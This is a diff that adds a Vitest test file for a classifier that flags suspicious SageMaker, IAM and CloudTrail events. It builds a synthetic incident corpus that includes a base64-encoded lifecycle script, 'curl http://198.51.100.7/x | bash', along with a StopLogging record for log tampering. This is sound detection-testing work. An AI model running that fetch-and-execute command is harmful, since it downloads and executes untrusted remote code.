@@ -1,0 +1,109 @@
+import { describe, expect, it } from 'vitest';
+import { buildRules, candidateFilter, createClassifier, watchedSources } from '../../../src/core/classify/index.js';
+import { FindingSchema } from '../../../src/core/finding.js';
+import type { CloudTrailRecord } from '../../../src/core/cloudtrail.js';
+import { PlaybookDataError } from '../../../src/errors.js';
+import { ACCOUNT, OTHER_ACCOUNT, b64, classify, keyUser, rec, testPlaybook } from './helpers.js';
+
+/** A small incident touching every rule, inside background and look-alike noise. */
+function corpus(): CloudTrailRecord[] {
+  const t = (hhmmss: string) => ({ eventTime: `2026-11-27T${hhmmss}Z` });
+  const iam = { eventSource: 'iam.amazonaws.com' };
+  const role = `arn:aws:iam::${ACCOUNT}:role/ml/TrainerRole`;
+  return [
+    rec('CreateNotebookInstance', { notebookInstanceName: 'nb-1', instanceType: 'ml.g4dn.xlarge', roleArn: role }, t('09:00:00')),
+    rec('CreateNotebookInstanceLifecycleConfig', { notebookInstanceLifecycleConfigName: 'lcc', onStart: [{ content: b64('curl http://198.51.100.7/x | bash') }] }, t('09:01:00')),
+    rec('StopNotebookInstance', { notebookInstanceName: 'nb-1' }, t('09:02:00')),
+    rec('UpdateNotebookInstance', { notebookInstanceName: 'nb-1', lifecycleConfigName: 'lcc' }, t('09:03:00')),
+    rec('StartNotebookInstance', { notebookInstanceName: 'nb-1' }, t('09:04:00')),
+    rec('CreatePresignedNotebookInstanceUrl', { notebookInstanceName: 'nb-1' }, t('09:05:00')),
+    ...[1, 2, 3, 4, 5].map((i) =>
+      rec('CreateTrainingJob', { trainingJobName: `tj-${i}`, roleArn: role, algorithmSpecification: { trainingImage: `${OTHER_ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/x:1` } }, t(`09:1${i}:00`)),
+    ),
+    rec('StopLogging', { name: 'management-events' }, { ...t('09:20:00'), eventSource: 'cloudtrail.amazonaws.com' }),
+    rec('PutRolePolicy', { roleName: 'TrainerRole', policyName: 'p' }, { ...t('09:21:00'), ...iam }),
+    ...[1, 2, 3, 4, 5].map((i) => rec('DescribeNotebookInstance', { notebookInstanceName: 'x' }, { ...t(`09:3${i}:00`), errorCode: 'AccessDenied' })),
+    // background and noise
+    rec('CreateEndpoint', { endpointName: 'e' }, { ...t('08:00:00'), eventSource: 'metrics-sagemaker.amazonaws.com' }),
+    rec('GetObject', { bucketName: 'b', key: 'sagemaker.amazonaws.com/x' }, { ...t('08:00:01'), eventSource: 's3.amazonaws.com', userIdentity: keyUser }),
+    rec('ListBuckets', null, { ...t('08:00:02'), eventSource: 's3.amazonaws.com' }),
+    rec('DescribeInstances', null, { ...t('08:00:03'), eventSource: 'ec2.amazonaws.com' }),
+  ];
+}
+
+describe('createClassifier', () => {
+  it('exercises every rule on the corpus, and every finding matches FindingSchema', () => {
+    const findings = classify(corpus());
+    const pb = testPlaybook();
+    expect(new Set(findings.map((f) => f.ruleId))).toEqual(new Set(pb.rules.rules.map((r) => r.id)));
+    for (const f of findings) expect(FindingSchema.safeParse(f).success).toBe(true);
+  });
+
+  it('returns findings sorted by time, then id, whatever the push order', () => {
+    const records = corpus();
+    const forward = classify(records);
+    const backward = classify([...records].reverse());
+    expect(backward).toEqual(forward);
+    const keys = forward.map((f) => [Date.parse(f.time), f.id] as const);
+    expect(keys).toEqual([...keys].sort((a, b) => a[0] - b[0] || (a[1] < b[1] ? -1 : a[1] > b[1] ? 1 : 0)));
+  });
+
+  it('ignores records of unwatched and look-alike sources', () => {
+    const noise = corpus().filter((r) => !['sagemaker.amazonaws.com', 'iam.amazonaws.com', 'cloudtrail.amazonaws.com'].includes(r.eventSource));
+    expect(noise).toHaveLength(4);
+    expect(classify(noise)).toEqual([]);
+  });
+});
+
+describe('watchedSources and candidateFilter', () => {
+  it('watches the playbook sources and those rules name, not look-alikes', () => {
+    expect([...watchedSources(testPlaybook())].sort()).toEqual([
+      'cloudtrail.amazonaws.com',
+      'iam.amazonaws.com',
+      'logs.amazonaws.com',
+      'sagemaker.amazonaws.com',
+    ]);
+  });
+
+  it('gives identical findings with and without the prefilter, and skips unwatched records', () => {
+    const pb = testPlaybook();
+    const isCandidate = candidateFilter(pb);
+    const records = corpus();
+    // Compact (S3 delivery), pretty-printed (single-record files) and escaped (lookup-events CloudTrailEvent) texts.
+    for (const text of [(r: CloudTrailRecord) => JSON.stringify(r), (r: CloudTrailRecord) => JSON.stringify(r, null, 2), (r: CloudTrailRecord) => JSON.stringify(JSON.stringify(r))]) {
+      const kept = records.filter((r) => isCandidate(text(r)));
+      expect(classify(kept, pb)).toEqual(classify(records, pb));
+      expect(records.length - kept.length).toBe(2); // ListBuckets, DescribeInstances; the rest name a watched source somewhere
+    }
+  });
+});
+
+describe('rule loading', () => {
+  it('accepts the real rules.json with every registered rule', () => {
+    expect(buildRules(testPlaybook())).toHaveLength(12);
+  });
+
+  it('fails clearly when rules.json names a rule with no implementation', () => {
+    const pb = testPlaybook();
+    pb.rules.rules.push({ ...pb.rules.rules[0]!, id: 'made-up-rule' });
+    expect(() => createClassifier(pb)).toThrow(PlaybookDataError);
+    expect(() => createClassifier(pb)).toThrow('playbook data rules.json: no implementation for rule made-up-rule');
+  });
+
+  it('fails clearly when an implemented rule is missing from rules.json', () => {
+    const pb = testPlaybook();
+    pb.rules.rules = pb.rules.rules.filter((r) => r.id !== 'log-tampering');
+    expect(() => createClassifier(pb)).toThrow('playbook data rules.json: rule log-tampering is implemented but missing from the data');
+  });
+
+  it('fails clearly when a rule\'s params do not fit its schema', () => {
+    const pb = testPlaybook();
+    const burst = pb.rules.rules.find((r) => r.id === 'creation-burst')!;
+    burst.params = { ...burst.params, threshold: 'five' };
+    expect(() => createClassifier(pb)).toThrow(/rules\.json: creation-burst: params\.threshold: /);
+    const lcc = pb.rules.rules.find((r) => r.id === 'lifecycle-script-suspicious')!;
+    burst.params = { ...burst.params, threshold: 5 };
+    lcc.params = { ...lcc.params, indicators: [{ label: 'broken', pattern: '(' }] };
+    expect(() => createClassifier(pb)).toThrow('lifecycle-script-suspicious: params.indicators.0.pattern: not a valid regular expression');
+  });
+});
